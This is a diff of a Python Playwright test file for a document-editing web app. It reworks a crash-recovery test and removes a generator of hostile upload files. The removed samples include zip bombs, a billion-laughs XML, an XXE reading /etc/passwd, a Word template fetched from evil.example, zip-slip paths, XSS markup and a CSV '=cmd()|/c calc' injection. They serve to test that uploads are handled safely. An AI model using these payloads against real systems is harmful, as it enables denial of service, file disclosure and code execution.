@@ -4,24 +4,19 @@ from __future__ import annotations
 
 import re
 import shutil
-import time
-import zipfile
-from functools import cache
-from io import BytesIO
 from pathlib import Path
 from typing import TYPE_CHECKING
 
 import pytest
 
-from charter.undoing import undo
 from charter.write.journal import read_journal
 from opened import NORTHWIND, Opened, window
-from word_packages import element, letter, links, paragraph
+from test_page_hostile import hostile
 
 if TYPE_CHECKING:
     from playwright.sync_api import Browser, Page
 
-_MOST_STEPS, _MOST_SECONDS = 60, 120
+_PATIENCE = 60
 
 
 def answer(screen: Page, words: str, fact: str = "headcount") -> None:
@@ -89,44 +84,28 @@ def test_a_change_that_was_undone_in_another_window_is_undone_once(
         assert other.locator("h1").inner_text() == "Nothing was changed"
 
 
-def test_a_process_that_dies_while_it_writes_loses_nothing(
+def test_a_process_that_dies_while_it_writes_is_started_anew_and_saves(
     browser: Browser, tmp_path: Path
 ) -> None:
-    """Killed before each step of a write, one after the other; each next start is a clean one."""
+    """Killed within a write; tests/test_at_once.py looks at what each moment of one leaves."""
     folder = Path(shutil.copytree(NORTHWIND, tmp_path / "northwind"))
     base = (folder / "company.yaml").read_text("utf-8")
-    opened, saved, said = Opened(folder, dies_at=1), "48", ""
-    screen = (context := browser.new_context()).new_page()
-    for steps in range(1, _MOST_STEPS):
-        screen.goto(opened.address)
-        assert screen.locator("h1").inner_text() == "Northwind Robotics"
-        screen.goto(f"{opened.origin}/company")
-        typed = str(100 + steps)
-        screen.locator("[name='company.headcount']").fill(typed)
-        screen.keyboard.press("Enter")
-        ends = time.monotonic() + _MOST_SECONDS
-        while opened.process.poll() is None and "saved=" not in screen.url:
-            assert time.monotonic() < ends
-            screen.wait_for_timeout(20)
-        survived = opened.process.poll() is None
-        said = opened.kill()
-        (found,) = re.findall(r"(?m)^  headcount: (\d+)$", opened.company)
-        assert opened.company == base.replace("headcount: 48\n", f"headcount: {found}\n")
-        assert found in (saved, typed)
-        saved = found
-        if survived:
-            break
-        opened.start(dies_at=steps + 1)
-    context.close()
-    assert said == ""
-    assert steps > 5
-    assert saved == typed
-    entries = read_journal(folder)
-    undo(folder, entries[-1].number)
-    assert f"headcount: {typed}\n" not in opened.company
-    left = {path.name for path in folder.iterdir()} - {"company.yaml", ".charter", ".gitignore"}
-    assert left == set()
-    assert list(folder.rglob("*.charter-tmp")) == []
+    opened = Opened(folder, dies_at=4)
+    with browser.new_context() as context:
+        screen = context.new_page()
+        for typed in ("101", "102"):
+            screen.goto(opened.address)
+            screen.goto(f"{opened.origin}/company")
+            screen.locator("[name='company.headcount']").fill(typed)
+            screen.keyboard.press("Enter")
+            if typed == "101":
+                opened.process.wait(_PATIENCE)
+                assert opened.company == base
+                opened.kill()
+                opened.start()
+        screen.wait_for_url("**saved=*", timeout=_PATIENCE * 1000)
+    assert opened.kill() == ""
+    assert opened.company == base.replace("headcount: 48\n", "headcount: 102\n")
 
 
 def test_without_the_token_nothing_is_shown(browser: Browser, opened: Opened) -> None:
@@ -184,115 +163,22 @@ def test_a_page_of_another_neither_reads_nor_writes(
         assert opened.company == before
 
 
-def zipped(**members: str | bytes) -> bytes:
-    held = BytesIO()
-    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as package:
-        for name, content in members.items():
-            package.writestr(name.replace("__", "/"), content)
-    return held.getvalue()
-
-
-@cache
-def hostile() -> dict[str, bytes]:
-    """Return files that are not what they seem, are made to harm, or are as large as may be."""
-    zeros = b"0" * 70_000_000
-    held = BytesIO()
-    with zipfile.ZipFile(held, "w") as package:
-        for name, content in letter().items():
-            package.writestr(name, content)
-    good = held.getvalue()
-    laughs = '<!DOCTYPE a [<!ENTITY b0 "ha">'
-    for n in range(1, 9):
-        laughs += f'<!ENTITY b{n} "{f"&b{n - 1};" * 10}">'
-    document = element("document", f"<w:body>{paragraph('&b8;')}</w:body>")
-    reads = f'<!DOCTYPE a [<!ENTITY b8 SYSTEM "file:///etc/passwd">]>{document}'
-    away = links(("rId9", "attachedTemplate", "http://evil.example/x.dotm"), outside=("rId9",))
-    script = b"<script>alert(1)</script><img src=x onerror=alert(1)>"
-    return {
-        "no-zip.docx": b"no zip",
-        "cut.docx": good[: len(good) // 2],
-        "bomb.docx": word({"word/document.xml": zeros}),
-        "laughs.docx": word({"word/document.xml": laughs + "]>" + document}),
-        "reads.docx": word({"word/document.xml": reads}),
-        "away.docx": word({"word/_rels/settings.xml.rels": away}),
-        "macro.docx": word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
-        "climbs.docx": word({"../../../evil.txt": "x", "/tmp/evil.txt": "x"}),
-        "deep.docx": word(
-            {"word/document.xml": element("document", "<w:p>" * 50_000 + "</w:p>" * 50_000)}
-        ),
-        "climbs.zip": zipped(**{"..__..__evil.txt": "x", "__tmp__evil.txt": "x"}),
-        "bomb.zip": zipped(**{"bomb.txt": zeros, "in.zip": zipped(**{"bomb.txt": zeros})}),
-        "many.zip": zipped(**{f"{n}.md": "# x" for n in range(3_000)}),
-        "program.exe": b"MZ" + bytes(5_000),
-        "program.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 20,
-        "script.html": script,
-        "script.md": b"# " + script,
-        "odd.csv": b'"\xff\xfe\x00,=cmd()|/c calc\n' * 50,
-        "bomb.xlsx": zipped(**{"xl__workbook.xml": zeros, "[Content_Types].xml": "<Types/>"}),
-        "nul.txt": b"\x00\x1b[31m\x07 hello",
-        "<b>name</b>.md": b"# Chief Technology Officer",
-    }
-
-
-def word(parts: dict[str, bytes | str]) -> bytes:
-    """Return a letter as a Word file with parts of one's own in it."""
-    held = BytesIO()
-    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as package:
-        for name, content in letter(more=parts).items():
-            package.writestr(name, content)
-    return held.getvalue()
-
-
-UPLOADS = {
-    "/publish": ("Look", "docx md html txt exe"),
-    "/copies": ("Compare", "docx pdf zip exe"),
-    "/look": ("Use it", "docx exe"),
-    "/offers": ("Make the pack", "docx exe"),
-    "/ask": ("Show where they differ", "docx xlsx csv exe"),
-    "/existing": ("Put them in", "docx pdf zip md html txt exe csv xlsx"),
-}
-"""Each screen that takes a file: its button, and the kinds it reads, with one that none does."""
-_PATIENCE = 60
-
-
-@pytest.mark.parametrize("path", UPLOADS)
-def test_a_hostile_file_is_told_or_kept_as_it_is_and_does_nothing(
-    screen: Page, opened: Opened, tmp_path: Path, path: str
+@pytest.mark.parametrize(("path", "button"), [("/publish", "Look"), ("/existing", "Put them in")])
+def test_a_file_that_a_browser_could_run_does_nothing(
+    screen: Page, opened: Opened, path: str, button: str
 ) -> None:
-    outside = {
-        each for each in opened.folder.parent.parent.rglob("*") if opened.folder not in each.parents
-    }
-    before, (button, kinds) = opened.company, UPLOADS[path]
-    for name, content in hostile().items():
-        if name.rpartition(".")[2] not in kinds.split():
-            continue
+    """Nothing goes wrong in the window either; tests/test_page_hostile.py sends all others."""
+    for name in ("script.html", "script.md", "nul.txt", "<b>name</b>.md"):
         screen.goto(opened.origin + path)
-        file = {"name": name, "mimeType": "application/octet-stream", "buffer": content}
+        file = {"name": name, "mimeType": "application/octet-stream", "buffer": hostile()[name]}
         screen.locator("#file").set_input_files(file)
-        began = time.monotonic()
         with screen.expect_response(lambda got: got.request.method == "POST") as got:
             screen.get_by_role("button", name=button, exact=True).click()
         screen.wait_for_load_state()
-        assert time.monotonic() - began < _PATIENCE, name
         assert got.value.status in (200, 303, 422), name
-        said = screen.inner_text("main")
-        assert "root:x:0" not in said, name
-        assert "Traceback" not in said, name
-        assert str(tmp_path.parent.parent) not in said.replace(str(opened.folder), ""), name
-        assert "/tmp/tmp" not in said, name
-        if path == "/existing":
-            kept = opened.folder / "papers" / name
-            assert not kept.exists() or kept.read_bytes() == content
-            kept.unlink(missing_ok=True)
-    assert opened.company == before
-    assert screen.evaluate("() => !document.querySelector('main script')")
-    now = {
-        each for each in opened.folder.parent.parent.rglob("*") if opened.folder not in each.parents
-    }
-    assert now == outside
-    assert not Path("/tmp/evil.txt").exists()
-    made = {each.name for each in opened.folder.iterdir()}
-    assert made <= {"company.yaml", "papers", ".gitignore", ".charter", "templates", "audit.yaml"}
+        assert screen.evaluate("() => !document.querySelector('main script, main img')"), name
+        assert "Traceback" not in screen.inner_text("main"), name
+        (opened.folder / "papers" / name).unlink(missing_ok=True)
 
 
 def test_a_file_that_is_too_large_is_told(screen: Page, opened: Opened, tmp_path: Path) -> None:
